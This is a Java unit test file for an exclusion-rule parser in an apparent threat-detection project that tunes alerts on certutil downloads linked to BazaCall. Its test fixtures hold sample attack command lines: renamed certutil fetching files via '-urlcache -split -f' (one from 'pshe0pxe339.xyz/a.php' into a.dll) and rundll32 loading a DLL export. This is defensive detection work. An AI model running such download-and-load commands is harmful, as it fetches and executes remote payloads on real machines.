package dev.bazahunt.tuning;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.bazahunt.rules.BazaCallFileEvents;
import dev.bazahunt.rules.RuleIds;
import dev.bazahunt.telemetry.DeviceFileEvent;
import java.util.Collections;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/** Loading, validating and evaluating exclusion files. */
class ExclusionSetTest {

    private static final String FAITHFUL = RuleIds.CERTUTIL_DOWNLOAD;

    /** One entry whose conditions are given as YAML lines indented under {@code conditions:}. */
    private static String entry(String conditions) {
        return "exclusions:\n"
                + "  - name: Test entry\n"
                + "    reason: Exercised by a unit test.\n"
                + "    rules: [" + FAITHFUL + "]\n"
                + "    conditions:\n"
                + conditions;
    }

    private static DeviceFileEvent row(String fileName, String commandLine) {
        DeviceFileEvent event = BazaCallFileEvents.payloadWrite(18342, fileName, commandLine);
        event.initiatingProcessAccountDomain = "CONTOSO";
        event.initiatingProcessAccountName = "j.doe";
        return event;
    }

    private static void assertFailsAtLine(String yaml, int line, String... fragments) {
        assertThatThrownBy(() -> ExclusionSet.parse(yaml, "tuning.yaml"))
                .isInstanceOf(ExclusionFileException.class)
                .hasMessageStartingWith("tuning.yaml line " + line + ": ")
                .hasMessageContainingAll(fragments)
                .satisfies(e -> assertThat(((ExclusionFileException) e).line()).isEqualTo(line));
    }

    @Test
    void allAnyAndNotCombineAsTheirNamesSay() {
        ExclusionSet set = ExclusionSet.parse(entry("""
                      all:
                        - {column: InitiatingProcessAccountDomain, operator: =~, value: contoso}
                        - any:
                            - {column: InitiatingProcessFileName, operator: =~, value: x8k2.exe}
                            - {column: InitiatingProcessFileName, operator: =~, value: q9z1.exe}
                        - not: {column: InitiatingProcessCommandLine, operator: has, value: https}
                """), "tuning.yaml");

        assertThat(set.firstMatch(FAITHFUL, row("X8K2.EXE", "x8k2.exe -urlcache -split -f http://a/b"))).isNotNull();
        assertThat(set.firstMatch(FAITHFUL, row("q9z1.exe", "q9z1.exe -urlcache -split -f http://a/b"))).isNotNull();
        assertThat(set.firstMatch(FAITHFUL, row("other.exe", "other.exe -urlcache -split -f http://a/b"))).isNull();
        assertThat(set.firstMatch(FAITHFUL, row("x8k2.exe", "x8k2.exe -urlcache -split -f https://a/b"))).isNull();
        DeviceFileEvent otherDomain = row("x8k2.exe", "x8k2.exe -urlcache -split -f http://a/b");
        otherDomain.initiatingProcessAccountDomain = "FABRIKAM";
        assertThat(set.firstMatch(FAITHFUL, otherDomain)).isNull();
    }

    @Test
    void anExclusionOnlyAppliesToItsRules() {
        ExclusionSet set = ExclusionSet.parse(entry("""
                      {column: InitiatingProcessFileName, operator: =~, value: x8k2.exe}
                """), "tuning.yaml");
        DeviceFileEvent event = row("x8k2.exe", "x8k2.exe -urlcache -split -f http://a/b");

        assertThat(set.firstMatch(FAITHFUL, event)).extracting(Exclusion::name).isEqualTo("Test entry");
        assertThat(set.firstMatch(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, event)).isNull();
    }

    @Test
    void nullColumnsCompareAsTheEmptyString() {
        ExclusionSet negated = ExclusionSet.parse(entry("""
                      {column: InitiatingProcessParentFileName, operator: "!~", value: excel.exe}
                """), "tuning.yaml");
        ExclusionSet empty = ExclusionSet.parse(entry("""
                      {column: InitiatingProcessParentFileName, operator: ==, value: ""}
                """), "tuning.yaml");
        ExclusionSet has = ExclusionSet.parse(entry("""
                      {column: InitiatingProcessParentFileName, operator: has, value: excel}
                """), "tuning.yaml");
        DeviceFileEvent noParent = row("x8k2.exe", "x8k2.exe -urlcache -f http://a/b");

        assertThat(noParent.initiatingProcessParentFileName).isNull();
        assertThat(negated.firstMatch(FAITHFUL, noParent)).isNotNull();
        assertThat(empty.firstMatch(FAITHFUL, noParent)).isNotNull();
        assertThat(has.firstMatch(FAITHFUL, noParent)).isNull();
    }

    @Test
    void numericAndDatetimeColumnsCompareAsTheirText() {
        ExclusionSet set = ExclusionSet.parse(entry("""
                      all:
                        - {column: ReportId, operator: ==, value: "18342"}
                        - {column: Timestamp, operator: ==, value: "2021-07-20T14:02:58.1034750Z"}
                """), "tuning.yaml");

        assertThat(set.firstMatch(FAITHFUL, row("x8k2.exe", "x8k2.exe"))).isNotNull();
    }

    @Test
    void normalizeReadsTheCommandLineAsCertutilDoes() {
        ExclusionSet set = ExclusionSet.parse(entry("""
                      {column: InitiatingProcessCommandLine, normalize: true, operator: has, value: -urlcache}
                """), "tuning.yaml");

        assertThat(set.firstMatch(FAITHFUL, row("x8k2.exe", "x8k2.exe \u2013url\"cache\" -f http://a/b"))).isNotNull();
        assertThat(set.firstMatch(FAITHFUL, row("x8k2.exe", "x8k2.exe /url\u200Bcache -f http://a/b"))).isNotNull();
    }

    @Test
    void auditRecordIsOneLineOfJsonNamingTheExclusionAndTheRow() {
        ExclusionSet set = ExclusionSet.parse(entry("""
                      {column: InitiatingProcessFileName, operator: =~, value: x8k2.exe}
                """), "tuning.yaml");
        DeviceFileEvent event = row("x8k2.exe", "x8k2.exe -urlcache -split -f \"http://a/b\" C:\\Users\\Public\\b.dll");

        String json = ExclusionAudit.of(set.firstMatch(FAITHFUL, event), FAITHFUL, event).toJson();

        assertThat(json).doesNotContain("\n").isEqualTo("{\"ExclusionName\":\"Test entry\",\"RuleId\":\"" + FAITHFUL
                + "\",\"DeviceId\":\"b2c4e6a8f0123456789abcdef0123456789abcde\",\"ReportId\":18342,"
                + "\"Timestamp\":\"2021-07-20T14:02:58.1034750Z\",\"InitiatingProcessCommandLine\":"
                + "\"x8k2.exe -urlcache -split -f \\\"http://a/b\\\" C:\\\\Users\\\\Public\\\\b.dll\"}");
    }

    @Test
    void malformedYamlNamesTheLine() {
        assertFailsAtLine(entry("""
                      all: [ {column: FileName, operator: =~, value: a.dll}
                """), 6, "malformed YAML", "flow sequence");
    }

    @Test
    void unknownColumnNamesTheLineAndTheColumn() {
        assertFailsAtLine(entry("""
                      all:
                        - {column: InitiatingProcessFileName, operator: =~, value: x8k2.exe}
                        - column: InitiatingProcessComandLine
                          operator: has
                          value: -generate
                """), 8, "unknown column 'InitiatingProcessComandLine'");
    }

    @Test
    void unknownOperatorNamesTheLineAndTheKnownOnes() {
        assertFailsAtLine(entry("""
                      all:
                        - column: InitiatingProcessCommandLine
                          operator: matches regex
                          value: urlcache
                """), 8, "unknown operator 'matches regex'", "has_any", "in~");
    }

    @Test
    void unknownRuleIdNamesTheLine() {
        String yaml = entry("""
                      {column: FileName, operator: =~, value: a.dll}
                """).replace("rules: [" + FAITHFUL + "]", "rules:\n      - " + FAITHFUL
                + "\n      - 00000000-0000-4000-8000-000000000000");
        assertFailsAtLine(yaml, 6, "unknown rule id '00000000-0000-4000-8000-000000000000'");
    }

    @Test
    void missingNameReasonOrConditionsNamesTheEntry() {
        String valid = entry("""
                      {column: FileName, operator: =~, value: a.dll}
                """);
        assertFailsAtLine(valid.replace("    reason: Exercised by a unit test.\n", ""), 2, "'reason' is missing",
                "Test entry");
        assertFailsAtLine(valid.replace("  - name: Test entry\n    reason", "  - reason"), 2, "'name' is missing");
        assertFailsAtLine(valid.substring(0, valid.indexOf("    conditions:")), 2, "'conditions' is missing");
    }

    @Test
    void hasAllOverKqlsLimitIsRejected() {
        String values = IntStream.rangeClosed(1, 257).mapToObj(i -> "term" + i).collect(Collectors.joining(", "));
        assertFailsAtLine(entry("""
                      column: InitiatingProcessCommandLine
                      operator: has_all
                      values: [%s]
                """.formatted(values)), 8, "257 distinct values", "256");
        String repeated = String.join(", ", Collections.nCopies(300, "urlcache"));
        assertThat(ExclusionSet.parse(entry("""
                      column: InitiatingProcessCommandLine
                      operator: has_all
                      values: [%s]
                """.formatted(repeated)), "tuning.yaml").all()).hasSize(1);
    }

    @Test
    void singleAndListOperatorsTakeTheirOwnOperandKey() {
        assertFailsAtLine(entry("""
                      column: InitiatingProcessFileName
                      operator: in~
                      value: x8k2.exe
                """), 8, "takes 'values'");
        assertFailsAtLine(entry("""
                      column: InitiatingProcessFileName
                      operator: =~
                      values: [x8k2.exe]
                """), 8, "takes 'value'");
    }

    @Test
    void aBranchMustStandAloneAndAnEmptyBranchIsRejected() {
        assertFailsAtLine(entry("""
                      all: []
                """), 6, "'all' must be a non-empty list");
        assertFailsAtLine(entry("""
                      any:
                        - {column: FileName, operator: =~, value: a.dll}
                      column: FileName
                """), 6, "'any' must be the only key");
    }

    @Test
    void duplicateKeysAndNamesAreRejected() {
        String valid = entry("""
                      {column: FileName, operator: =~, value: a.dll}
                """);
        assertFailsAtLine(valid.replace("    reason: Exercised", "    name: Again\n    reason: Exercised"), 3,
                "key 'name' appears twice");
        String twice = valid + valid.substring("exclusions:\n".length());
        assertFailsAtLine(twice, 7, "exclusion name 'Test entry' is used twice");
    }

    /** Each mistake a user can make in the file, with the line the message names and its words. */
    @Test
    void everyMistakeIsReportedAtItsLineInPlainWords() {
        String condition = "      {column: FileName, operator: =~, value: a.dll}\n";
        String valid = entry(condition);
        assertFailsAtLine(valid + "version: 2\n", 7, "unknown key 'version' in the file", "[exclusions]");
        assertFailsAtLine("exclusions: {name: Test entry}\n", 1, "'exclusions' must be a list of entries");
        assertFailsAtLine("exclusions:\n  - just a sentence\n", 2, "an exclusion must be a mapping of keys to values");
        assertFailsAtLine(valid.replace("    rules:", "    severity: low\n    rules:"), 4,
                "unknown key 'severity' in an exclusion", "name", "reason", "rules", "conditions");
        assertFailsAtLine(valid.replace("- name: Test entry", "- name: \"  \""), 2,
                "'name' of an exclusion is empty");
        assertFailsAtLine(valid.replace("rules: [" + FAITHFUL + "]", "rules: []"), 4,
                "rules of exclusion 'Test entry' must be a non-empty list");
        assertFailsAtLine(entry("""
                      {column: FileName, operator: =~, value: a.dll, case: ignore}
                """), 6, "unknown key 'case' in a condition", "column/operator/value(s)/normalize");
        assertFailsAtLine(entry("""
                      column: InitiatingProcessCommandLine
                      operator: has
                      value: -urlcache
                      normalize: yes
                """), 9, "'normalize' must be true or false");
        assertFailsAtLine(entry("""
                      column: FileName
                      operator: =~
                      value: [a.dll, b.dll]
                """), 8, "the value of '=~' on FileName must be a single value");
        assertFailsAtLine(entry("""
                      column: FileName
                      operator: in~
                      values: []
                """), 8, "the values of 'in~' on FileName must be a non-empty list");
        assertFailsAtLine(entry("""
                      column: FileName
                      operator: =~
                """), 6, "'value' is missing in '=~' on FileName");
        assertFailsAtLine(entry("      [FileName, =~, a.dll]\n"), 6, "a condition must be a mapping of keys to values");
        String tooMany = IntStream.rangeClosed(1, 10_001).mapToObj(i -> "host" + i).collect(Collectors.joining(", "));
        assertFailsAtLine(entry("""
                      column: InitiatingProcessCommandLine
                      operator: has_any
                      values: [%s]
                """.formatted(tooMany)), 8, "10001 distinct values", "10000");
    }

    /** Several entries cover the row: the first one in file order that names the rule is reported. */
    @Test
    void theFirstMatchingEntryInFileOrderIsTheOneReported() {
        String forHardened = """
                  - name: Only for the hardened rule
                    reason: Names the other rule, so it never covers the faithful rule's matches.
                    rules: [%s]
                    conditions: {column: InitiatingProcessFileName, operator: =~, value: x8k2.exe}
                """.formatted(RuleIds.CERTUTIL_DOWNLOAD_HARDENED);
        String byName = """
                  - name: Renamed certutil in the Public folder
                    reason: Lab machine where the red team stages certutil copies.
                    rules: [%s]
                    conditions: {column: InitiatingProcessFileName, operator: =~, value: x8k2.exe}
                """.formatted(FAITHFUL);
        String byDevice = """
                  - name: The red team's lab workstation
                    reason: Everything on wks-0142 is an exercise.
                    rules: [%s]
                    conditions: {column: DeviceName, operator: =~, value: WKS-0142.contoso.local}
                """.formatted(FAITHFUL);
        DeviceFileEvent event = row("x8k2.exe", "x8k2.exe -urlcache -split -f http://pshe0pxe339.xyz/a.php a.dll");

        assertThat(ExclusionSet.parse("exclusions:\n" + forHardened + byName + byDevice, "a.yaml")
                .firstMatch(FAITHFUL, event)).extracting(Exclusion::name).isEqualTo("Renamed certutil in the Public folder");
        assertThat(ExclusionSet.parse("exclusions:\n" + forHardened + byDevice + byName, "b.yaml")
                .firstMatch(FAITHFUL, event)).extracting(Exclusion::name).isEqualTo("The red team's lab workstation");
        assertThat(ExclusionSet.parse("exclusions:\n" + forHardened + byDevice + byName, "b.yaml")
                .firstMatch(RuleIds.CERTUTIL_DOWNLOAD_HARDENED, event)).extracting(Exclusion::name)
                .isEqualTo("Only for the hardened rule");
    }

    @Test
    void negatedAndCaseSensitiveOperatorsEvaluateAsInKql() {
        ExclusionSet notHas = ExclusionSet.parse(entry("""
                      {column: InitiatingProcessCommandLine, operator: "!has", value: http}
                """), "tuning.yaml");
        // https is one term, so the line has no term http.
        assertThat(notHas.firstMatch(FAITHFUL, row("x8k2.exe", "x8k2.exe -urlcache -f https://a.example/b"))).isNotNull();
        assertThat(notHas.firstMatch(FAITHFUL, row("x8k2.exe", "x8k2.exe -urlcache -f HTTP://a.example/b"))).isNull();

        ExclusionSet hasCs = ExclusionSet.parse(entry("""
                      {column: InitiatingProcessCommandLine, operator: has_cs, value: GlobalOut}
                """), "tuning.yaml");
        assertThat(hasCs.firstMatch(FAITHFUL, row("rundll32.exe", "rundll32.exe C:\\x\\a.dll,GlobalOut"))).isNotNull();
        assertThat(hasCs.firstMatch(FAITHFUL, row("rundll32.exe", "rundll32.exe C:\\x\\a.dll,globalout"))).isNull();
        assertThat(hasCs.firstMatch(FAITHFUL, row("rundll32.exe", "rundll32.exe C:\\x\\a.dll,GlobalOutput"))).isNull();

        ExclusionSet notContains = ExclusionSet.parse(entry("""
                      {column: FolderPath, operator: "!contains", value: \\cryptneturlcache\\}
                """), "tuning.yaml");
        DeviceFileEvent payload = row("x8k2.exe", "x8k2.exe -urlcache -split -f http://a.example/b");
        DeviceFileEvent cacheEntry = row("x8k2.exe", "x8k2.exe -urlcache -split -f http://a.example/b");
        cacheEntry.folderPath = "C:\\Users\\j.doe\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\9F3A1C0E";
        assertThat(notContains.firstMatch(FAITHFUL, payload)).isNotNull();
        assertThat(notContains.firstMatch(FAITHFUL, cacheEntry)).as("contains ignores case").isNull();
    }

    @Test
    void emptyFileIsRejected() {
        assertFailsAtLine("# only a comment\n", 1, "empty");
    }
}
